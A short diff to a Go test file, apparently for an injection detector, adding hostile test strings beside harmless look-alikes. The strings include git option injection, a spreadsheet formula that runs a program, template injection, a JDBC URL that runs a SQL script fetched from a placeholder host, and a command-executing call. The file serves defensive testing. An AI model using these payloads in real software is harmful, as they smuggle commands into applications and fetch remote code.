@@ -41,5 +41,7 @@ func TestSigns(t *testing.T) {
 	f(&prototype, point.Text, `a[__proto__][x]`, `a[proto][x]`)
 	f(&option, point.Text, `--upload-pack=touch x`, `--upload=photo.jpg`)
 	f(&formula, point.Text, `=cmd|' /C calc'!A0`, `=A1|B1!`)
+	f(&driverURL, point.Text, `jdbc:h2:mem:a;INIT=RUNSCRIPT FROM 'http://h.example/a.sql'`, `jdbc:h2:mem:a;INIT=CREATE SCHEMA IF NOT EXISTS A`)
+	f(&phrase, point.Text, `"ps".execute()`, `"of the plan".execute()`)
 	f(&template, point.Text, `{{7*7}}`, `{{name}}`)
 }
